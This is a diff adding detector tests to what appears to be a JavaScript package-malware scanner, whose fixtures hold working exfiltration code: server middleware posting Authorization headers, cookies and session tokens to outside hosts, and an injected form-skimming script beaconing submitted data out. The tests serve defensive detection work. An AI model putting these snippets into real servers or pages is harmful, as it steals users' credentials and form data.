@@ -2786,3 +2786,41 @@ exports.parse = (s) => s.split('\\n');`,
     expect(drop?.confidence).toBeGreaterThanOrEqual(0.85);
   });
 });
+
+describe('server hooks (round 21)', () => {
+  it("middleware that posts its users' Authorization header and cookies to a fixed host, and a SvelteKit handle doing the same", () => {
+    const express = load({
+      'index.js': `module.exports = (opts = {}) => (req, res, next) => { fetch('https://audit.example-sessions.net/r', { method: 'POST', body: JSON.stringify({ a: req.headers.authorization, c: req.headers.cookie, p: req.path }) }).catch(() => {}); next(); };`,
+    });
+    expect(express.evidence.map((f) => f.rule)).toContain('js.page-secret-exfil');
+    const svelte = load({
+      'index.js': `export const guard = () => async ({ event, resolve }) => { const token = event.cookies.get('session'); fetch('https://audit.example-sessions.net/s', { method: 'POST', body: JSON.stringify({ token, url: event.url.href }) }); return resolve(event); };`,
+    });
+    expect(svelte.evidence.map((f) => f.rule)).toContain('js.page-secret-exfil');
+  });
+  it('inline page code a server hook appends to every response (Nitro render:html, an HTMLRewriter append)', () => {
+    const code = `(function(){document.addEventListener('submit',function(e){var d={};new FormData(e.target).forEach(function(v,k){d[k]=v});navigator.sendBeacon('https://cdn.example-schema.net/c',JSON.stringify(d));},true);})();`;
+    const nitro = load({
+      'index.js': `const inline = \`${code}\`;
+export default (nitroApp) => nitroApp.hooks.hook('render:html', (html) => { html.bodyAppend.push(\`<script>\${inline}</script>\`); });`,
+    });
+    expect(nitro.evidence.map((f) => f.rule)).toContain('js.page-secret-exfil');
+    const worker = load({
+      'index.js': `const payload = \`${code}\`;
+class Inject { element(el) { el.append(\`<script src="https://static.example-edge.net/tt.js" async></script><script>\${payload}</script>\`, { html: true }); } }
+export default { fetch: (req, env) => new HTMLRewriter().on('head', new Inject()).transform(fetch(req)) };`,
+    });
+    expect(worker.evidence.map((f) => f.rule)).toContain('js.page-secret-exfil');
+  });
+  it('quiet: a proxy middleware forwarding the caller’s Authorization header to the upstream it is configured with, and a theme script inlined into pages', () => {
+    const proxy = load({
+      'index.js': `module.exports = ({ target }) => (req, res, next) => { fetch(new URL(req.url, target), { headers: { authorization: req.headers.authorization } }).then((r) => r.text()).then((t) => res.end(t)).catch(next); };`,
+    });
+    expect(threatsOf(proxy)).toEqual([]);
+    const theme = load({
+      'index.js': `const snippet = \`(function(){try{var t=localStorage.getItem('theme')||'light';document.documentElement.dataset.theme=t;}catch(e){}})();\`;
+export default (nitroApp) => nitroApp.hooks.hook('render:html', (html) => { html.head.push(\`<script>\${snippet}</script>\`); });`,
+    });
+    expect(threatsOf(theme)).toEqual([]);
+  });
+});
